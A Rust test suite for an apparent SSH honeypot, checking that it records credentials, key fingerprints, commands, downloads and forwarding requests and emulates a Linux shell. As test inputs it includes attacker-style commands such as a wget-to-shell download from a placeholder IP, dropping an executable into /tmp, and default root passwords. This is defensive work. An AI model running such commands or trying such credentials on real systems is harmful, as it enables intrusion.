//! Tries to log in, and what is asked for behind them.

use super::{
    client::{channel_request, data, let_in, open_session, password, request},
    *,
};
use base64::{Engine, engine::general_purpose::STANDARD_NO_PAD};
use sha2::{Digest, Sha256};

fn begun(session: SshSession) -> Client {
    let mut client = Client::of(session, LISTS, "none");
    client.begin_login();
    client
}

/// A client that was let in as `root` and has a channel.
pub(super) fn inside() -> Client {
    let mut client = begun(let_in());
    let answers = client.ask(&password("root", "toor"));
    assert_eq!((answers[0].as_slice(), answers[1][0]), (&[MSG_USERAUTH_SUCCESS][..], MSG_GLOBAL_REQUEST));
    assert_eq!(client.ask(&open_session())[0][..9], [91, 0, 0, 0, 5, 0, 0, 0, 0]);
    client
}

/// Everything printed in the channel, complaints too; and the status, if it has ended.
pub(super) fn printed(answers: &[Vec<u8>]) -> (String, Option<u8>) {
    let (mut text, mut status) = (Vec::new(), None);
    for payload in answers {
        match payload[0] {
            MSG_CHANNEL_DATA => text.extend_from_slice(&payload[9..]),
            MSG_CHANNEL_EXTENDED_DATA => text.extend_from_slice(&payload[13..]),
            MSG_CHANNEL_REQUEST => status = payload.last().copied(),
            _ => {}
        }
    }
    (said(&text), status)
}

pub(super) fn exec(command: &str) -> (Client, String, Option<u8>) {
    let mut client = inside();
    let answers = client.ask(&channel_request("exec", |out| put_string(out, command.as_bytes())));
    let (text, status) = printed(&answers);
    (client, text, status)
}

#[test]
fn every_try_is_told_with_the_client_before_it_is_answered_and_the_sixth_is_the_last() {
    let mut client = begun(session());
    let none = client.ask(&request("root", "none", |_| {}));
    let failure = message(MSG_USERAUTH_FAILURE, |out| {
        put_string(out, b"publickey,password,keyboard-interactive");
        out.push(0);
    });
    assert_eq!((none, client.heard.reports.len()), (vec![failure.clone()], 0), "asking for the methods is free");
    for try_ in 1..6 {
        assert_eq!(client.ask(&password("root", &format!("pw{try_}"))), vec![failure.clone()]);
        let (found, _) = client.heard.reports.last().unwrap();
        let fields = ["username", "password", "method", "client"].map(|name| found.fields[name].as_str());
        assert_eq!(fields, ["root", &format!("pw{try_}"), "password", "SSH-2.0-test"]);
        assert_eq!((found.signs, found.fields["hassh"].len()), (Signs::CREDENTIALS, 32));
    }
    let waits: Vec<u32> = client.heard.pauses.iter().map(|(_, ms)| *ms).collect();
    let least = waits[0].min(waits[1]).min(waits[2]).min(waits[3]).min(waits[4]);
    assert!(
        (1_000..2_600).contains(&least) && waits.iter().all(|ms| [least, least * 2, least * 2 + 1].contains(ms)),
        "{waits:?}"
    );
    let last = client.ask(&password("root", "pw6"));
    assert_eq!((last_words(&last[0]).as_str(), client.heard.flow), ("Too many authentication failures", Flow::Close));
    assert_eq!(client.heard.reports.last().unwrap().0.fields["password"], "pw6");
}

#[test]
fn keys_are_told_as_ssh_prints_them() {
    let mut client = begun(session());
    // An ed25519 key of which `ssh-keygen -lf` prints this fingerprint.
    let blob = crate::text::unbase64(b"AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f").unwrap();
    let query = |signed: u8, method: &str| {
        request("git", method, |out| {
            out.push(signed);
            put_string(out, b"ssh-ed25519");
            put_string(out, &blob);
            if signed == 1 {
                put_string(out, &[1; 83]);
            }
        })
    };
    assert_eq!(client.ask(&query(0, "publickey"))[0][0], MSG_USERAUTH_FAILURE);
    let fields = client.heard.reports.last().unwrap().0.fields.clone();
    assert_eq!((fields["key_algorithm"].as_str(), fields.get("key_signed")), ("ssh-ed25519", None));
    assert_eq!(fields["key_fingerprint"], FINGERPRINT);
    client.ask(&query(1, "publickey-hostbound-v00@openssh.com"));
    assert_eq!(client.heard.flow, Flow::Close, "bound to no host");
    assert_eq!(client.heard.reports.last().unwrap().0.fields["key_signed"], "true");
}

const FINGERPRINT: &str = "SHA256:ZkAslGjFiUHdGf/WUL8rQvkib4PTvQatUV0OUQSncCA";

#[test]
fn a_question_is_asked_and_its_answer_told() {
    let mut client = begun(session());
    let ask = request("admin", "keyboard-interactive", |out| out.extend_from_slice(&[0; 8]));
    let question = client.ask(&ask).remove(0);
    assert!(question[0] == MSG_USERAUTH_INFO_REQUEST && said(&question).contains("Password: "));
    let answer = message(MSG_USERAUTH_INFO_RESPONSE, |out| {
        out.extend_from_slice(&[0, 0, 0, 1]);
        put_string(out, b"s3cret");
    });
    assert_eq!(client.ask(&answer)[0][0], MSG_USERAUTH_FAILURE);
    let (found, _) = client.heard.reports.last().unwrap();
    assert_eq!((found.fields["username"].as_str(), found.fields["password"].as_str()), ("admin", "s3cret"));
    assert!(client.ask(&answer).is_empty() && client.heard.flow == Flow::Close, "nothing was asked");
    assert_eq!(begun(session()).ask(&answer)[0][0], MSG_UNIMPLEMENTED, "nothing ever was");
}

#[test]
fn a_client_stays_who_it_is() {
    let mut client = begun(session());
    client.ask(&password("root", "a"));
    let last = client.ask(&password("admin", "b"));
    let words = "Change of username or service not allowed: (root,ssh-connection) -> (admin,ssh-connection)";
    assert_eq!((last_words(&last[0]).as_str(), client.heard.flow), (words, Flow::Close));
    let (found, _) = client.heard.reports.last().unwrap();
    let kept = ["username", "method", "password"].map(|name| found.fields[name].as_str());
    assert_eq!((kept, found.signs.contains(Signs::CREDENTIALS)), (["admin", "password", "b"], true));
    let printed = format!("SHA256:{}", STANDARD_NO_PAD.encode(Sha256::digest(b"a key")));
    let key = request("admin", "publickey", |out| {
        out.push(0);
        put_string(out, b"ssh-ed25519");
        put_string(out, b"a key");
    });
    let new = request("admin", "password", |out| {
        out.push(1);
        put_string(out, b"b");
        put_string(out, b"c");
    });
    let of_key = [("method", "publickey"), ("key_algorithm", "ssh-ed25519"), ("key_fingerprint", &printed)];
    for (tried, kept) in [(key, &of_key[..]), (new, &[("method", "password"), ("password", "b"), ("new_password", "c")])] {
        let mut client = begun(session());
        client.ask(&password("root", "a"));
        assert_eq!(last_words(&client.ask(&tried)[0]), words);
        let (found, _) = client.heard.reports.last().unwrap();
        let told = kept.iter().all(|(name, value)| found.fields.get(*name).is_some_and(|found| found == value));
        assert!(told && found.fields["username"] == "admin" && found.signs.contains(Signs::CREDENTIALS), "{found:?}");
    }
    let mut other = Client::of(session(), LISTS, "none");
    let last = other.ask(&message(MSG_SERVICE_REQUEST, |out| put_string(out, b"ssh-connection")));
    assert_eq!(last_words(&last[0]), "bad service request ssh-connection");
}

#[test]
fn a_nought_in_a_name_ends_it_and_what_was_tried_is_kept() {
    for (user, word) in [("a\0b", "c"), ("a", "c\0d"), ("\0a", "\0c")] {
        let mut client = begun(session());
        assert!(client.ask(&password(user, word)).is_empty(), "without a word");
        assert_eq!(client.heard.flow, Flow::Close);
        let (found, _) = client.heard.reports.last().unwrap();
        let kept = [user, word].map(|said| said.replace('\0', "\\u{0}"));
        assert_eq!(["username", "password"].map(|name| found.fields[name].clone()), kept);
        assert!(found.signs.contains(Signs::CREDENTIALS));
    }
}

#[test]
fn a_nought_in_a_keys_algorithm_ends_it_and_the_key_is_kept() {
    for signed in [0, 1] {
        let mut client = begun(session());
        let answers = client.ask(&request("git", "publickey", |out| {
            out.push(signed);
            put_string(out, b"ssh-\0ed25519");
            put_string(out, b"a key");
        }));
        assert!(answers.is_empty() && client.heard.flow == Flow::Close, "without a word");
        let (found, _) = client.heard.reports.last().unwrap();
        let fields = ["username", "method", "key_algorithm"].map(|name| found.fields[name].as_str());
        assert_eq!(fields, ["git", "publickey", "ssh-\\u{0}ed25519"]);
        let printed = format!("SHA256:{}", STANDARD_NO_PAD.encode(Sha256::digest(b"a key")));
        assert_eq!((&found.fields["key_fingerprint"], found.fields.contains_key("key_signed")), (&printed, signed == 1));
        assert!(found.signs.contains(Signs::CREDENTIALS));
    }
}

#[test]
fn extensions_are_told_to_those_who_can_hear_them() {
    let client = Client::marked(session(), LISTS, ",ext-info-c", "none");
    let told = said(&client.unasked[0]);
    assert!(
        client.unasked[0][0] == MSG_EXT_INFO && told.contains("server-sig-algs") && told.contains("ping@openssh.com"),
        "{told}"
    );
    let mut client = Client::marked(session(), LISTS, ",ext-info-c", "none");
    let wish = message(MSG_EXT_INFO, |out| {
        out.extend_from_slice(&[0, 0, 0, 1]);
        put_string(out, b"ext-info-in-auth@openssh.com");
        put_string(out, b"0");
    });
    client.ask(&wish);
    client.begin_login();
    let kinds: Vec<u8> = client.ask(&request("root", "none", |_| {})).iter().map(|payload| payload[0]).collect();
    assert_eq!(kinds, [MSG_EXT_INFO, MSG_USERAUTH_FAILURE]);
}

#[test]
fn nobody_is_let_in_unless_the_operator_wants_it() {
    let let_in_at = |try_: u8| {
        let mut client = begun(Ssh::of(&persona()).letting_in(try_).session(7));
        (1..=3).map(|_| client.ask(&password("root", "a"))[0][0]).position(|kind| kind == MSG_USERAUTH_SUCCESS)
    };
    assert_eq!((let_in_at(0), let_in_at(1), let_in_at(3)), (None, Some(0), Some(2)));
}

#[test]
fn an_account_that_nobody_can_log_in_to_is_never_let_in() {
    let let_in =
        |user: &str| begun(Ssh::of(&persona()).letting_in(1).session(7)).ask(&password(user, "a"))[0][0] == MSG_USERAUTH_SUCCESS;
    assert_eq!(["root", "admin", "www-data", "sync", "nobody"].map(let_in), [true, true, false, false, false]);
}

#[test]
fn a_command_is_told_and_answered_without_a_shell() {
    let (client, text, status) = exec("uname -s; nosuch; wget http://198.51.100.9/x.sh -O- | sh");
    assert!(text.starts_with("Linux\nbash: line 1: nosuch: command not found\n"), "{text}");
    assert_eq!((status, client.heard.flow), (Some(0), Flow::Telling));
    let (found, _) = client.heard.reports.last().unwrap();
    assert_eq!(found.fields["command"], "uname -s; nosuch; wget http://198.51.100.9/x.sh -O- | sh");
    assert_eq!((found.fields["download"].as_str(), found.fields["username"].as_str()), ("http://198.51.100.9/x.sh", "root"));
    assert_eq!((found.signs, exec("false").2, exec("nosuch").2), (Signs::RULE, Some(1), Some(127)));
}

#[test]
fn a_terminal_prompts_and_each_line_is_told() {
    let mut client = inside();
    client.ask(&channel_request("pty-req", |out| {
        put_string(out, b"xterm");
        out.extend_from_slice(&[0; 20]);
    }));
    let (greeting, _) = printed(&client.ask(&channel_request("shell", |_| {})));
    let host = persona();
    assert!(
        greeting.starts_with(&format!("Linux {}", host.host()))
            && greeting.ends_with(&format!("\x1b[?2004hroot@{}:~# ", host.host()))
    );
    let (text, _) = printed(&client.ask(&data(b"whoami\r")));
    assert_eq!(text, format!("whoami\r\n{OFF}root\r\n\x1b[?2004hroot@{}:~# ", host.host()));
    assert_eq!(client.heard.reports.last().unwrap().0.fields["command"], "whoami");
    client.ask(&data(b"id\rw\r"));
    assert_eq!(client.heard.reports.last().unwrap().0.fields["command"], "id; w");
    let (text, status) = printed(&client.ask(&data(b"exit\r")));
    assert_eq!((text.as_str(), status), ("exit\r\n\x1b[?2004l\rlogout\r\n", Some(0)));
}

/// What bash says behind a line.
const OFF: &str = "\x1b[?2004l\r";

/// A terminal with a shell in it, behind its first prompt.
fn terminal(user: &str) -> (Client, String) {
    let mut client = begun(let_in());
    client.ask(&password(user, "a"));
    client.ask(&open_session());
    client.ask(&channel_request("pty-req", |out| {
        put_string(out, b"xterm");
        out.extend_from_slice(&[0; 20]);
    }));
    let (greeting, _) = printed(&client.ask(&channel_request("shell", |_| {})));
    (client, greeting.rsplit("\r\n").next().unwrap().to_string())
}

#[test]
fn a_terminals_keys_edit_the_line() {
    let (mut client, prompt) = terminal("root");
    let mut typed = |keys: &[u8]| printed(&client.ask(&data(keys))).0;
    assert_eq!(typed(b"whoamiX\x7f\r"), format!("whoamiX\x08\x1b[K\r\n{OFF}root\r\n{prompt}"));
    assert_eq!(typed(b"\x1b[A\r"), format!("whoami\r\n{OFF}root\r\n{prompt}"));
    assert_eq!(typed(b"nosuch\x15id -u\r"), format!("nosuch{}\x1b[Kid -u\r\n{OFF}0\r\n{prompt}", "\x08".repeat(6)));
    assert_eq!(typed(b"ls\t\x1b[D\x17\x1b[3~\x05\r"), format!("ls\x07\x08\x08\x1b[1P\x1b[K\r\n{OFF}{prompt}"));
    let recalled = typed(b"history\r");
    assert!(
        recalled.contains("  whoami\r\n")
            && recalled.ends_with(&format!("  id -u\r\n   {}  history\r\n{prompt}", recalled.lines().count() - 2)),
        "{recalled}"
    );
    let told: Vec<_> = client.heard.reports.iter().filter_map(|(found, _)| found.fields.get("command").cloned()).collect();
    assert_eq!(told, ["whoami", "whoami", "id -u", "history"]);
}

#[test]
fn what_reads_from_a_terminal_reads_until_its_end() {
    let (mut client, prompt) = terminal("root");
    let mut typed = |keys: &[u8]| printed(&client.ask(&data(keys))).0;
    assert_eq!(typed(b"cat > /tmp/x\r"), format!("cat > /tmp/x\r\n{OFF}"));
    assert_eq!(typed(b"wget http://198.51.100.9/y\rZ\x7f\r"), "wget http://198.51.100.9/y\r\nZ\x08 \x08\r\n");
    assert_eq!(typed(b"\x04"), prompt);
    assert_eq!(typed(b"cat\ra\r\x03"), format!("cat\r\n{OFF}a\r\na\r\n^C\r\n{prompt}"));
    assert_eq!(typed(b"sh\rexit\rbash\r"), format!("sh\r\n{OFF}# exit\r\n\r\n{prompt}bash\r\n{OFF}{prompt}"));
    assert_eq!(typed(b"\x04"), format!("{OFF}\r\nexit\r\n{prompt}"));
    assert_eq!(typed(b"passwd\r"), format!("passwd\r\n{OFF}New password: "));
    assert_eq!(
        typed(b"s3cret\rs3cret\r"),
        format!("\r\nRetype new password: \r\npasswd: password updated successfully\r\n{prompt}")
    );
    let told =
        |name: &str| client.heard.reports.iter().filter_map(|(found, _)| found.fields.get(name).cloned()).collect::<Vec<_>>();
    assert_eq!(told("input"), ["wget http://198.51.100.9/y\\u{a}; \\u{a}", "a\\u{a}"]);
    assert_eq!((told("command").len(), told("new_password")), (4, vec!["s3cret".to_string()]));
    let (mut other, prompt) = terminal("admin");
    let asked = printed(&other.ask(&data(b"passwd\rold\ra\rb\r"))).0;
    assert!(
        asked.starts_with("passwd\r\n\x1b[?2004l\rChanging password for admin.\r\nCurrent password: \r\nNew password: "),
        "{asked}"
    );
    assert!(asked.ends_with(&format!("passwd: password unchanged\r\n{prompt}")), "{asked}");
}

#[test]
fn what_reads_without_a_terminal_gets_the_rest() {
    let (mut client, ..) = exec("sh");
    client.ask(&data(b"cat > /tmp/x\nwget http://198.51.100.9/y\nid\n"));
    let found = &client.heard.reports.last().unwrap().0.fields;
    assert_eq!(
        (found["command"].as_str(), found["input"].as_str()),
        ("cat > /tmp/x", "wget http://198.51.100.9/y\\u{a}id\\u{a}")
    );
}

/// Going to and fro on a long line costs no more than a terminal is shown.
#[test]
fn a_terminals_echo_is_bounded() {
    let (mut client, _) = terminal("root");
    client.ask(&data(&[b'x'; 5_000]));
    let shown = printed(&client.ask(&data(&b"\x01\x05".repeat(10_000)))).0;
    assert!(shown.len() <= 16 * 1_024, "{}", shown.len());
}

/// What was made safe once must not be made so again with each further line.
#[test]
fn several_lines_of_one_packet_are_told_as_they_were_said() {
    let (mut client, ..) = exec("sh");
    client.ask(&data(b"echo \xff\x01\nwget http://198.51.100.9/a\nid\ncurl http://198.51.100.9/b\n"));
    let found = &client.heard.reports.last().unwrap().0.fields;
    assert_eq!(found["command"], r"echo \u{dcff}\u{1}; wget http://198.51.100.9/a; id; curl http://198.51.100.9/b");
    assert_eq!(found["download"], "http://198.51.100.9/a; http://198.51.100.9/b");
    client.ask(&data(&b"uname -a\n".repeat(200)));
    assert_eq!(client.heard.reports.last().unwrap().0.fields["commands"], "200");
}

#[test]
fn what_is_written_to_a_file_is_told() {
    let (mut client, _, status) = exec("cat > /tmp/.x; chmod +x /tmp/.x");
    assert_eq!(status, None, "it waits for input");
    client.ask(&data(b"\x7fELF..."));
    assert_eq!(client.heard.reports.last().unwrap().0.fields["input"], "\\u{7f}ELF...");
    let end = message(MSG_CHANNEL_EOF, |out| out.extend_from_slice(&[0; 4]));
    assert_eq!(printed(&client.ask(&end)).1, Some(0));
}

#[test]
fn forwarding_and_subsystems_are_told_and_refused() {
    let mut client = inside();
    let forward = message(MSG_CHANNEL_OPEN, |out| {
        put_string(out, b"direct-tcpip");
        [9_u32, 1_000, 1_000].iter().for_each(|number| out.extend_from_slice(&number.to_be_bytes()));
        put_string(out, b"mail.example");
        out.extend_from_slice(&25_u32.to_be_bytes());
    });
    let refused = client.ask(&forward).remove(0);
    assert_eq!(refused[..9], [MSG_CHANNEL_OPEN_FAILURE, 0, 0, 0, 9, 0, 0, 0, 1]);
    assert!(said(&refused).contains("open failed"));
    assert_eq!(client.heard.reports.last().unwrap().0.fields["forward"], "mail.example:25");
    let netconf = client.ask(&channel_request("subsystem", |out| put_string(out, b"netconf")));
    let told = client.heard.reports.last().unwrap().0.fields["subsystem"].as_str();
    assert_eq!((netconf[0][0], told), (MSG_CHANNEL_FAILURE, "netconf"));
    let listen = message(MSG_GLOBAL_REQUEST, |out| {
        put_string(out, b"tcpip-forward");
        out.push(1);
        put_string(out, b"0.0.0.0");
        out.extend_from_slice(&8_080_u32.to_be_bytes());
    });
    assert_eq!(client.ask(&listen), [vec![MSG_REQUEST_FAILURE]]);
    assert_eq!(client.heard.reports.last().unwrap().0.fields["listen"], "0.0.0.0:8080");
}

#[test]
fn channels_are_bounded_and_a_closed_one_makes_room() {
    let mut client = inside();
    let opened = (0..20).filter(|_| client.ask(&open_session())[0][0] == MSG_CHANNEL_OPEN_CONFIRMATION).count();
    assert_eq!(opened, 9, "and the first");
    let closed = client.ask(&message(MSG_CHANNEL_CLOSE, |out| out.extend_from_slice(&[0, 0, 0, 3])));
    assert_eq!(closed[0][0], MSG_CHANNEL_CLOSE);
    assert_eq!(client.ask(&open_session())[0][..9], [91, 0, 0, 0, 5, 0, 0, 0, 3]);
    let last = client.ask(&message(MSG_CHANNEL_DATA, |out| out.extend_from_slice(&[0, 0, 0, 99, 0, 0, 0, 0])));
    assert_eq!(last_words(&last[0]), "data packet referred to nonexistent channel 99");
    assert_eq!(client.heard.flow, Flow::Close);
}

#[test]
fn who_asks_for_much_while_keys_are_exchanged_is_not_listened_to_any_longer() {
    let mut client = inside();
    assert_eq!(client.ask(&offer(LISTS, "", "none", false))[0][0], MSG_KEXINIT);
    let keepalive = message(MSG_GLOBAL_REQUEST, |out| {
        put_string(out, b"keepalive@openssh.com");
        out.push(1);
    });
    let waiting = (0..1_000).take_while(|_| client.ask(&keepalive).is_empty() && client.heard.flow != Flow::Close).count();
    assert!((100..300).contains(&waiting), "{waiting}");
    assert_eq!(client.heard.flow, Flow::Close);
}

#[test]
fn host_keys_are_proven_to_whoever_does_not_know_them() {
    let mut client = inside();
    let key = HostKeys::of(&persona().key("ssh host keys")).public(hostkey::HostKeyKind::Ecdsa);
    let prove = |key: &[u8]| {
        message(MSG_GLOBAL_REQUEST, |out| {
            put_string(out, b"hostkeys-prove-00@openssh.com");
            out.push(1);
            put_string(out, key);
        })
    };
    assert_eq!(client.ask(&prove(&key))[0][0], MSG_REQUEST_SUCCESS);
    assert_eq!(client.ask(&prove(b"another's")), [vec![MSG_REQUEST_FAILURE]]);
}

#[test]
fn packed_payloads_are_understood_from_the_login_on() {
    let mut client = Client::of(let_in(), LISTS, "zlib@openssh.com");
    client.begin_login();
    client.ask(&password("root", "a"));
    client.ask(&open_session());
    let answers = client.ask(&channel_request("exec", |out| put_string(out, b"whoami")));
    assert_eq!(printed(&answers), ("root\n".into(), Some(0)));
}

#[test]
fn the_same_attack_leaves_the_same_bytes_however_it_was_encrypted() {
    let attack = |session: SshSession| {
        let mut client = begun(session);
        client.ask(&password("root", "a"));
        client.ask(&open_session());
        client.ask(&channel_request("exec", |out| put_string(out, b"uname -a")));
        (client.said(), client.sent)
    };
    let service = Ssh::of(&persona()).letting_in(1);
    let ((first, sent), (second, sent_again)) = (attack(service.session(1)), attack(service.session(2)));
    assert_ne!(sent, sent_again, "each has keys of its own");
    assert_eq!(first, second);
    let text = said(&first);
    for word in ["SSH-2.0-test", "curve25519-sha256", "ssh-connection", "password", "uname -a"] {
        assert!(text.contains(word), "{word} is not in {text}");
    }
    assert!(!first.windows(16).any(|window| window == [1; 16]), "the cookie is of no use");
}

#[test]
fn what_is_no_packet_is_kept_as_it_is() {
    for junk in
        [&b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"[..], b"\0\0\0\x1c\x03 too little padding, and some more", b"\0\0\0\x1c\x06half"]
    {
        let (mut session, talk) = (session(), [HELLO, junk].concat());
        let step = session.receive(&talk, NOW, &mut Vec::new());
        session.end();
        // What comes behind the end is kept by whoever carries it, since it is no secret.
        assert!(!session.is_secret());
        let kept = [session.said().unwrap(), talk[step.taken..].to_vec()].concat();
        assert_eq!(said(&kept), said(&talk));
    }
}
